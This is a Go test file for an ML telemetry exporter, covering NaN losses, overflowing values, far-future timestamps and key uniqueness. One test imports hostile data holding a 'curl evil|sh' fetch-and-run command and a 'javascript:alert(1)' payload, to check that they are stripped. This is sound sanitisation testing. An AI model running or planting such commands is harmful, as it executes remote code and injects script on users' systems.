package model_test

import (
	"encoding/json"
	"fmt"
	"math"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/otelcol-ml/otelcol-ml/exporter/mlviewexporter/internal/api"
	"github.com/otelcol-ml/otelcol-ml/exporter/mlviewexporter/internal/input"
	"github.com/otelcol-ml/otelcol-ml/exporter/mlviewexporter/internal/series"
	"github.com/otelcol-ml/otelcol-ml/internal/mlattr"
)

// A loss that becomes NaN is not shown as the last good one.
func TestALossThatIsNoNumber(t *testing.T) {
	for _, bad := range []float64{math.NaN(), math.Inf(1), math.MaxFloat64} {
		w := newWorld(input.Settings{})
		w.point(series.Loss, "r", 2.5, "batch")
		w.point(series.Loss, "r", bad, "batch")
		run := w.state().Runs[0]
		assert.Nil(t, run.Loss)
		assert.Contains(t, run.Why["loss"], "NaN")
		w.point(series.Loss, "r", 2.5, "batch")
		run = w.state().Runs[0]
		require.NotNil(t, run.Loss)
		assert.Empty(t, run.Why["loss"])
	}
}

// Numbers that overflow in sums leave a State that can be encoded.
func TestNumbersThatOverflow(t *testing.T) {
	w := newWorld(input.Settings{})
	for _, value := range []float64{1e30, -1e30, 1e-300, math.NaN(), math.Inf(-1), math.MaxFloat64} {
		for s := series.Steps; s < series.Count; s++ {
			for i := range 20 {
				p := series.Point{Series: s, Update: series.Update{Value: value, Count: math.Abs(value), Delta: i%2 == 0, Time: w.now.UnixNano()}}
				p.Labels = series.Labels{Service: "s", Run: "r", Host: "h", GPU: "g", Rank: strconv.Itoa(i % 3)}
				p.Labels.Own[0] = "running"
				w.ApplyPoints([]series.Point{p})
				w.now = w.now.Add(time.Millisecond)
			}
		}
		w.span(func(in *input.Span) {
			in.Duration, in.Queue, in.FirstToken, in.Decode, in.Cached = value, value, value, value, value
			in.Part, in.Asks = input.WholeCall, true
			in.Start, in.End = math.MinInt64, math.MaxInt64
		})
		s := w.state()
		_, err := json.Marshal(s)
		require.NoError(t, err)
		detail, ok := w.Run(s.Runs[0].Key)
		require.True(t, ok)
		_, err = json.Marshal(detail)
		require.NoError(t, err)
	}
}

// Records of a clock that is far ahead neither stay for ever nor displace others.
func TestRecordsOfTheFuture(t *testing.T) {
	w := newWorld(input.Settings{MaxGPUs: 2})
	future := w.now.AddDate(200, 0, 0)
	xid := func(gpu, code string, at time.Time) {
		w.ApplyEvents([]input.Event{{GPU: gpu, Host: "h", XID: &api.XID{Time: at, Code: code}}})
	}
	xid("g", "1", future)
	for i := range 10 {
		xid("unknown "+strconv.Itoa(i), "1", future)
	}
	w.gpu(series.GPUPower, "g", 1, nil)
	w.gpu(series.GPUPower, "g2", 1, nil)
	w.now = w.now.Add(time.Second)
	xid("g", "79", w.now)
	xid("g2", "48", w.now)
	gpus := w.state().GPUs
	require.NotNil(t, gpus[0].XID)
	assert.Equal(t, "79", gpus[0].XID.Code)
	require.NotNil(t, gpus[1].XID)
	assert.Equal(t, "48", gpus[1].XID.Code)

	for i := range 500 {
		w.ApplyEvents([]input.Event{{Failure: &api.Failure{Key: fmt.Sprint("k", i), LastSeen: &future}}})
	}
	w.SetFailures([]api.Failure{{Key: "found", FirstSeen: &future, LastSeen: &future}})
	for _, f := range w.state().Failures {
		assert.False(t, f.LastSeen.After(w.now), f.Key)
		assert.False(t, f.FirstSeen.After(w.now), f.Key)
	}
	w.now = w.now.Add(time.Minute)
	w.fails("Real", "", 1)
	w.fails("Other", "", 1)
	classes := make(map[string]bool)
	for _, f := range w.state().Failures {
		classes[f.Class] = true
	}
	assert.True(t, classes["Real"] && classes["Other"])
}

// What is imported can be encoded, is cut as what arrives, and has no commands.
func TestImportOfHostileData(t *testing.T) {
	w := newWorld(input.Settings{})
	now, bad := w.now.Format(time.RFC3339), "0000-01-01T00:00:00+23:59"
	err := w.Import([]byte(`{"version":1,
		"runs":[{"service":"s","id":"r","first_seen":"` + bad + `","checkpoint":"` + bad + `","last_seen":"` + now + `"}],
		"failures":[{"key":"k","class":"c","command":"curl evil|sh","report":"javascript:alert(1)","trace_url":"x","requires":["y"],
			"message":"` + strings.Repeat("secret ", 70) + `","count":-1,"first_seen":"` + bad + `","last_seen":"` + now + `"}]}`))
	require.NoError(t, err)
	s := w.state()
	_, err = json.Marshal(s)
	require.NoError(t, err)
	require.Len(t, s.Failures, 1)
	f := s.Failures[0]
	assert.Len(t, f.Message, 200)
	assert.Empty(t, f.Command+f.Report+f.TraceURL+strings.Join(f.Requires, ""))
	assert.Zero(t, f.Count)
	assert.Equal(t, w.now.Add(-2*time.Second).UTC(), *f.FirstSeen)

	first := "0000-01-01T00:00:00+23:59"
	at, err := time.Parse(time.RFC3339, first)
	require.NoError(t, err)
	w.SetFailures([]api.Failure{{Key: "found", FirstSeen: &at, LastSeen: &s.Time}})
	_, err = json.Marshal(w.state())
	require.NoError(t, err)
}

// Each call has a key of its own.
func TestKeysOfCalls(t *testing.T) {
	w := newWorld(input.Settings{})
	for _, service := range []string{"a", "b"} {
		for _, id := range []byte{0, 0, 1} {
			w.span(func(in *input.Span) {
				in.Source, in.Part = &input.Source{Service: service}, input.WholeCall
				in.Trace, in.ID = [16]byte{id}, [8]byte{id}
			})
		}
	}
	keys := make(map[string]bool)
	for _, c := range w.state().Calls {
		keys[c.Key] = true
	}
	assert.Len(t, keys, 6)
}

// A problem of a GPU has one key, whatever names its series have.
func TestAProblemHasOneKey(t *testing.T) {
	keys := make(map[string]bool)
	for range 30 {
		w := newWorld(input.Settings{})
		for _, service := range []string{"c", "a", "b"} {
			w.gpu(series.Problem, "0", float64(w.now.Unix()), func(p *series.Point) {
				p.Labels.Own[0], p.Labels.Service, p.Labels.Job = mlattr.ProblemGPUFailed, service, service
			})
		}
		w.gpu(series.GPUPower, "0", 1, nil)
		needs := w.state().Needs
		require.Len(t, needs, 1)
		keys[needs[0].Key+needs[0].Job] = true
	}
	assert.Len(t, keys, 1)
}
